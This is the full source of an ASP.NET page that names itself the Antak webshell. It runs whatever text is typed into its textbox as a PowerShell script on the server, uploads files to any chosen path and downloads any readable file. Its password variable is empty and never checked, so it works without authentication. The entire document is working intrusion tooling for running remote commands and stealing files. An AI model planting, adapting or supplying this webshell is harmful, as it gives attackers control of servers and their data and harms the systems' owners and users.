<%@ Page Language="C#" Debug="true" Trace="false" %>
<%@ Import Namespace="System.Diagnostics" %>
<%@ Import Namespace="System.IO" %>
<%@ Import Namespace="System.Management.Automation.Runspaces" %>
<%@ Import Namespace="System.Management.Automation" %>
<%@ Assembly Name="System.Management.Automation,Version=1.0.0.0,Culture=neutral,PublicKeyToken=31BF3856AD364E35" %>
<script Language="c#" runat="server">
// Antak - A Webshell which utilizes PowerShell.
string Password = "";
protected void Page_Load(object sender, EventArgs e)
{
}
string executePS(string script)
{
    Runspace runspace = RunspaceFactory.CreateRunspace();
    runspace.Open();
    Pipeline pipeline = runspace.CreatePipeline();
    pipeline.Commands.AddScript(script);
    pipeline.Commands.Add("Out-String");
    System.Collections.ObjectModel.Collection<PSObject> results = pipeline.Invoke();
    runspace.Close();
    System.Text.StringBuilder stringBuilder = new System.Text.StringBuilder();
    foreach (PSObject obj in results)
    {
        stringBuilder.AppendLine(obj.ToString());
    }
    return stringBuilder.ToString();
}
protected void ps(object sender, EventArgs e)
{
    try
    {
        console.Text = executePS(console.Text);
    }
    catch (Exception ex)
    {
        console.Text += "Exception occurred: " + ex.Message;
    }
}
protected void uploadbutton_Click(object sender, EventArgs e)
{
    if (FileUpload1.HasFile)
    {
        string filename = Path.GetFileName(FileUpload1.FileName);
        FileUpload1.SaveAs(console.Text + "\\" + filename);
        console.Text = "File uploaded to: " + console.Text + "\\" + filename;
    }
}
protected void downloadbutton_Click(object sender, EventArgs e)
{
    Response.ContentType = "application/octet-stream";
    Response.AppendHeader("Content-Disposition", "attachment; filename=" + console.Text);
    Response.TransmitFile(console.Text);
    Response.End();
}
</script>
<html><head><title>Antak Webshell</title></head>
<body>
<form id="form1" runat="server">
<asp:TextBox ID="console" runat="server" Height="300px" Width="800px" TextMode="MultiLine"></asp:TextBox>
<asp:Button ID="cmd" runat="server" Text="Submit" OnClick="ps" />
<asp:FileUpload ID="FileUpload1" runat="server" />
<asp:Button ID="uploadbutton" runat="server" Text="Upload the File" OnClick="uploadbutton_Click" />
<asp:Button ID="downloadbutton" runat="server" Text="Download" OnClick="downloadbutton_Click" />
</form>
</body></html>
